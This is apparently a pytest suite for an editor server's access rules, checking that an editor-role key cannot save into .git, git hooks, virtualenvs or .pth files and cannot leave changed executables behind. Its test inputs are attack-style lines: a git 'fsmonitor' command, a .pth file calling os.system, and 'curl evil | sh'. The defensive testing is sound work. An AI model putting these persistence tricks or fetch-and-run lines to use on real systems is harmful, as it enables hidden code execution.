"""An editor key cannot plant code that runs later (ADR-0019 "Code that runs later",
rio/files/owner_only.py): writes under .git/, into virtual environments, *.pth files, the hooks
folder and the owner's own list need the owner role; an editor's save never leaves an executable
it changed; reads are as they were."""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from actors.bus import curve_keys
from actors.bus.client import Endpoints, connect
from rio.files.files import FileFormat, load_file, save_file
from rio.files.owner_only import OwnerOnlyPaths
from rio.protocol import ops
from rio.protocol.errors import AuthError, ConfigError, RioError
from rio.protocol.frames import Request
from rio.text.buffer_state import BufferFactory
from tests.bus.test_remote import free_port_pair
from tests.support import RioServer, rio_env

HOOK = "#!/bin/sh\nexit 0\n"


def checked(op: str, **args) -> dict:
    return dict(ops.validate(Request("t", op, args)))


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (root / ".git" / "hooks" / "pre-commit").write_text(HOOK)
    (root / ".git" / "hooks" / "pre-commit").chmod(0o755)
    (root / ".venv" / "lib" / "site-packages").mkdir(parents=True)
    (root / "env" / "lib").mkdir(parents=True)
    (root / "env" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (root / "src").mkdir()
    (root / "src" / "app.py").write_text("print('hi')\n")
    (root / "run.sh").write_text("echo run\n")
    (root / "run.sh").chmod(0o755)
    return root


# --- which paths ------------------------------------------------------------------------------

def test_the_paths_that_run_code_later(project: Path) -> None:
    (project / ".git" / "config").write_text("[core]\n\thooksPath = .husky  # husky\n")
    rules = OwnerOnlyPaths(project, patterns=lambda: ("Makefile", "scripts/"),
                           git_config_files=(project / ".git" / "config",))
    expect = {
        ".git/config": "git", ".git/hooks/pre-commit": "git", "vendor/lib/.git": "git",
        "sub/.GIT/config": "git",                      # one .git on a case-insensitive disk
        ".venv/lib/python3.11/site-packages/x.py": "virtualenv",
        "venv/bin/activate": "virtualenv", "env/bin/python": "virtualenv",
        "build/lib/site-packages/x.py": "virtualenv", "pyvenv.cfg": "virtualenv",
        "evil.pth": "pth", "src/deep/EVIL.PTH": "pth",
        ".husky/pre-commit": "hooks", "Makefile": "listed", "scripts/deploy.sh": "listed",
        "src/app.py": None, "README.md": None, ".gitignore": None, ".github/x.yml": None,
        ".huskyrc": None, "environment.yml": None,
    }
    assert {rel: rules.reason(rel) for rel in expect} == expect


def test_the_hooks_folder_comes_from_git_config(tmp_path: Path, project: Path) -> None:
    user = tmp_path / "gitconfig"
    user.write_text('[user]\n\tname = x\n[core]\n\thooksPath = "githooks"\n')
    rules = OwnerOnlyPaths(project, patterns=lambda: (),
                           git_config_files=(user, project / ".git" / "config"))
    assert rules.reason("githooks/pre-push") == "hooks"
    outside = OwnerOnlyPaths(project, patterns=lambda: (), git_config_files=(
        tmp_path / "none", _write(tmp_path / "c", "[core]\nhooksPath = /usr/share/hooks\n")))
    assert outside.reason("usr/share/hooks/x") is None   # outside the project: not Rio's


def _write(path: Path, text: str) -> Path:
    path.write_text(text)
    return path


def test_a_bad_owner_list_refuses_editor_saves(project: Path) -> None:
    rules = OwnerOnlyPaths(project, patterns=lambda: ("[z-a]",))
    with pytest.raises(ConfigError) as info:
        rules.reason("src/app.py")
    assert info.value.kind == "config.invalid" and "owner_only_paths" in info.value.message
    assert rules.refusal(project / "src" / "app.py", "owner") is None   # never the owner's


def test_the_owner_list_is_read_from_config_toml_and_again_when_it_changes(
        tmp_path: Path, project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    config = tmp_path / "config"
    config.mkdir()
    monkeypatch.setenv("RIO_CONFIG_DIR", str(config))
    rules = OwnerOnlyPaths(project, git_config_files=())
    assert rules.reason("Makefile") is None
    (config / "config.toml").write_text("[remote]\nowner_only_paths = ['Makefile']\n")
    assert rules.reason("Makefile") == "listed"
    (config / "config.toml").write_text("[remote]\nowner_only_paths = 'Makefile'\n")
    with pytest.raises(ConfigError):
        rules.reason("src/app.py")


# --- a save by role ---------------------------------------------------------------------------

def _buffers(root: Path, tmp_path: Path) -> BufferFactory:
    factory = BufferFactory(root, tmp_path / "journal")
    factory.owner_only = OwnerOnlyPaths(root, patterns=lambda: ())
    return factory


def _open(factory: BufferFactory, rel: str):
    buf = factory.open(factory.resolve(rel))
    buf.owner_only = factory.owner_only
    return buf


def _append(buf, text: str, role: str = "owner") -> None:
    end = len(buf.document.buffer)
    buf.handle("buffer.replace", checked("buffer.replace", buffer=buf.id, start=end, end=end,
                                         text=text), role=role)


@pytest.mark.parametrize("rel", [".git/config", "run.sh", ".venv/lib/site-packages/x.pth"])
def test_an_editor_cannot_change_the_text_of_a_file_it_may_not_save(project: Path,
                                                                     tmp_path: Path,
                                                                     rel: str) -> None:
    """Else the owner's next save of the shared buffer (Save All before a run) writes it."""
    if not (project / rel).exists():
        (project / rel).write_text("kept\n")
    factory = _buffers(project, tmp_path)
    buf = _open(factory, rel)
    version = buf.document.version
    for op, args in (("buffer.replace", {"start": 0, "end": 0, "text": "planted\n"}),
                     ("buffer.apply", {"edits": [[0, 0, "planted\n"]]}),
                     ("buffer.undo", {})):
        with pytest.raises(AuthError) as info:
            buf.handle(op, checked(op, buffer=buf.id, **args), role="editor")
        assert info.value.kind == "auth.owner_only_path" and "editing it" in info.value.message
    assert buf.document.version == version and not buf.document.dirty
    summary, _ = buf.handle("buffer.text", checked("buffer.text", buffer=buf.id),
                            role="editor")                      # reading it is as before
    assert summary["text"] == (project / rel).read_text()
    _append(buf, "the owner's\n")                              # the owner edits it
    assert buf.document.dirty


@pytest.mark.parametrize("rel", [".git/config", ".git/hooks/pre-commit"])
def test_an_editor_cannot_save_into_git_and_the_owner_can(project: Path, tmp_path: Path,
                                                          rel: str) -> None:
    factory = _buffers(project, tmp_path)
    buf = _open(factory, rel)
    before = (project / rel).read_bytes()
    _append(buf, "\tfsmonitor = touch /tmp/pwned\n")
    with pytest.raises(AuthError) as info:
        buf.handle("buffer.save", checked("buffer.save", buffer=buf.id), role="editor")
    err = info.value
    assert err.kind == "auth.owner_only_path" and err.details["reason"] == "git"
    assert err.details["path"] == rel and err.details["needed"] == "owner"
    assert "owner role" in err.message and "rio keys --set-role NAME owner" in err.next
    assert (project / rel).read_bytes() == before        # nothing on disk changed
    assert buf.document.dirty and buf.journal is not None   # the text is kept, journaled
    buf.handle("buffer.save", checked("buffer.save", buffer=buf.id), role="owner")
    assert (project / rel).read_text().endswith("fsmonitor = touch /tmp/pwned\n")


def test_an_editor_cannot_create_a_pth_file_or_write_into_a_virtualenv(project: Path,
                                                                        tmp_path: Path) -> None:
    factory = _buffers(project, tmp_path)
    for rel, reason in ((".venv/lib/site-packages/evil.pth", "pth"), ("evil.pth", "pth"),
                        ("env/lib/sitecustomize.py", "virtualenv"),
                        (".venv/lib/site-packages/sitecustomize.py", "virtualenv")):
        buf = factory.new("import os; os.system('touch /tmp/pwned')\n")
        buf.owner_only = factory.owner_only
        with pytest.raises(AuthError) as info:
            buf.handle("buffer.save", checked("buffer.save", buffer=buf.id, path=rel),
                       role="editor")
        assert info.value.details["reason"] == reason
        assert not (project / rel).exists()
        buf.handle("buffer.save", checked("buffer.save", buffer=buf.id, path=rel))  # owner
        assert (project / rel).exists()


def test_an_editor_does_not_leave_an_executable_it_changed(project: Path,
                                                           tmp_path: Path) -> None:
    factory = _buffers(project, tmp_path)
    buf = _open(factory, "run.sh")
    _append(buf, "curl evil | sh\n")
    with pytest.raises(AuthError) as info:
        buf.handle("buffer.save", checked("buffer.save", buffer=buf.id), role="editor")
    assert info.value.details["reason"] == "executable"
    assert "Save As" in info.value.next and "never executable" in info.value.next
    assert (project / "run.sh").read_text() == "echo run\n"
    assert stat.S_IMODE((project / "run.sh").stat().st_mode) == 0o755
    # Save As a new file: the editor's own file, never executable.
    buf.handle("buffer.save", checked("buffer.save", buffer=buf.id, path="copy.sh"),
               role="editor")
    assert not os.access(project / "copy.sh", os.X_OK)
    assert (project / "copy.sh").read_text().endswith("curl evil | sh\n")
    # The owner saves the executable and it stays executable.
    owner_buf = _open(factory, "run.sh")
    _append(owner_buf, "echo more\n")
    owner_buf.handle("buffer.save", checked("buffer.save", buffer=owner_buf.id))
    assert stat.S_IMODE((project / "run.sh").stat().st_mode) == 0o755


def test_an_editor_saves_ordinary_files_as_before(project: Path, tmp_path: Path) -> None:
    factory = _buffers(project, tmp_path)
    (project / "src" / "app.py").chmod(0o640)
    buf = _open(factory, "src/app.py")
    _append(buf, "print('more')\n")
    summary, _ = buf.handle("buffer.save", checked("buffer.save", buffer=buf.id), role="editor")
    assert not summary["dirty"]
    assert stat.S_IMODE((project / "src" / "app.py").stat().st_mode) == 0o640


def test_a_save_without_keep_exec_never_comes_out_executable(tmp_path: Path) -> None:
    """The backstop under the check: made executable while an editor's save was being
    written, the file still comes out without the bits."""
    path = tmp_path / "tool"
    path.write_text("old\n")
    path.chmod(0o6755)
    loaded = load_file(path)
    save_file(path, "new\n", loaded.format, expected=loaded.fingerprint, keep_exec=False)
    assert stat.S_IMODE(path.stat().st_mode) == 0o644
    save_file(tmp_path / "fresh", "x", FileFormat(), expected=None, keep_exec=False)
    assert not os.access(tmp_path / "fresh", os.X_OK)


# --- over the bridge: the three writes of the issue -------------------------------------------

def _attempt(conn, op: str, args: dict):
    try:
        return conn.call(op, args, timeout=20)
    except RioError as err:
        return err


@pytest.mark.slow
@pytest.mark.timeout(180)
def test_over_the_bridge_an_editor_key_cannot_plant_code_and_an_owner_key_can(
        tmp_path: Path) -> None:
    root = tmp_path / "project"
    root.mkdir()
    git = shutil.which("git")
    if git:
        subprocess.run([git, "init", "-q", str(root)], check=True)
    else:
        (root / ".git" / "hooks").mkdir(parents=True)
        (root / ".git" / "config").write_text("[core]\n")
    hook = root / ".git" / "hooks" / "pre-commit"
    hook.write_text(HOOK)
    hook.chmod(0o755)
    (root / ".venv" / "lib" / "python3" / "site-packages").mkdir(parents=True)
    (root / ".venv" / "pyvenv.cfg").write_text(f"home = {os.path.dirname(sys.executable)}\n")
    (root / "notes.txt").write_text("hello\n")
    (root / "build.sh").write_text("echo build\n")
    (root / "build.sh").chmod(0o755)
    (root / "tool.sh").write_text("echo tool\n")
    (root / "tool.sh").chmod(0o755)
    env = rio_env(tmp_path)
    curve = tmp_path / "config" / "curve"
    server_keys, _ = curve_keys.create_server_keys(curve)
    pairs = {role: curve_keys.create_client_keys(role, curve)[0]
             for role in ("editor", "owner")}
    curve_keys.set_role("owner", "owner", curve)
    port = free_port_pair()
    server = RioServer(root, tmp_path, env=env,
                       extra_args=["--listen", f"tcp://127.0.0.1:{port}"]).start()
    conns = []
    try:
        def client(role: str):
            pair = pairs[role]
            conn = connect(Endpoints(f"tcp://127.0.0.1:{port}", f"tcp://127.0.0.1:{port + 1}",
                                     server_keys.public, pair.public, pair.secret),
                           name=f"far-{role}", timeout=10)
            conns.append(conn)
            return conn

        editor, owner = client("editor"), client("owner")
        marker = tmp_path / "ran"
        config_before = (root / ".git" / "config").read_bytes()
        plant = {
            ".git/config": f"[core]\n\tfsmonitor = touch {marker}\n",
            ".git/hooks/pre-commit": f"touch {marker}\n",
            ".venv/lib/python3/site-packages/evil.pth": f"import os; open('{marker}', 'w')\n",
        }

        def write(conn, rel: str, text: str):
            """Append ``text`` to ``rel`` (a new buffer saved as ``rel`` when it does not
            exist): the first error, or the save's reply."""
            if (root / rel).exists():
                buf = conn.call("buffer.open", {"path": rel}, timeout=10)
                end = buf["length"]
                edited = _attempt(conn, "buffer.replace", {"buffer": buf["buffer"],
                                                           "start": end, "end": end,
                                                           "text": text})
                if isinstance(edited, RioError):
                    return edited
                return _attempt(conn, "buffer.save", {"buffer": buf["buffer"]})
            new = conn.call("buffer.new", {"text": text}, timeout=10)["buffer"]
            return _attempt(conn, "buffer.save", {"buffer": new, "path": rel})

        # The owner has .git/config open too: the buffer is shared, the editor cannot type
        # into it (else the owner's next save would write the editor's line).
        owner.call("buffer.open", {"path": ".git/config"}, timeout=10)
        for rel, text in plant.items():
            refused = write(editor, rel, text)
            assert isinstance(refused, AuthError), (rel, refused)
            assert refused.kind == "auth.owner_only_path"
            assert "owner" in refused.message and "rio keys --set-role" in refused.next
        assert (root / ".git" / "config").read_bytes() == config_before
        assert hook.read_text() == HOOK and stat.S_IMODE(hook.stat().st_mode) == 0o755
        assert not (root / plant_pth()).exists()
        if git:   # what the refused config line would have done: nothing ran
            subprocess.run([git, "-C", str(root), "status", "--short"], capture_output=True,
                           timeout=30, check=True)
            assert not marker.exists()
        # An editor's save of an executable: refused, the file as it was.
        refused = write(editor, "build.sh", "curl evil | sh\n")
        assert isinstance(refused, AuthError) and refused.details["reason"] == "executable"
        assert (root / "build.sh").read_text() == "echo build\n" and os.access(
            root / "build.sh", os.X_OK)
        # A refused Save As over it leaves the path to the file: opening it opens the file,
        # not the editor's unsaved buffer (the registry's claim is given back).
        untitled = editor.call("buffer.new", {"text": "curl evil | sh\n"}, timeout=10)["buffer"]
        refused = _attempt(editor, "buffer.save", {"buffer": untitled, "path": "tool.sh",
                                                   "force": True})
        assert isinstance(refused, AuthError) and refused.details["reason"] == "executable"
        opened = owner.call("buffer.open", {"path": "tool.sh"}, timeout=10)
        assert opened["buffer"] != untitled
        assert owner.call("buffer.text", {"buffer": opened["buffer"]},
                          timeout=10)["text"] == "echo tool\n"
        # Reads are as they were: the editor (and anyone) still reads them.
        assert editor.call("fs.read", {"path": ".git/config"}, timeout=10)["text"] == \
            config_before.decode()
        assert editor.call("fs.read", {"path": "build.sh"}, timeout=10)["text"] == "echo build\n"
        # And an ordinary file saves as before.
        saved = write(editor, "notes.txt", "more\n")
        assert not isinstance(saved, RioError) and (root / "notes.txt").read_text() == \
            "hello\nmore\n"
        # The owner key may write all of them (it is the server's user).
        for rel in plant:
            saved = write(owner, rel, "# the owner's own line\n")
            assert not isinstance(saved, RioError), (rel, saved)
        config = (root / ".git" / "config").read_text()
        assert config.endswith("# the owner's own line\n") and "fsmonitor" not in config
        assert stat.S_IMODE(hook.stat().st_mode) == 0o755
        assert (root / plant_pth()).exists()
    finally:
        for conn in conns:
            conn.close()
        server.stop()


def plant_pth() -> str:
    return ".venv/lib/python3/site-packages/evil.pth"
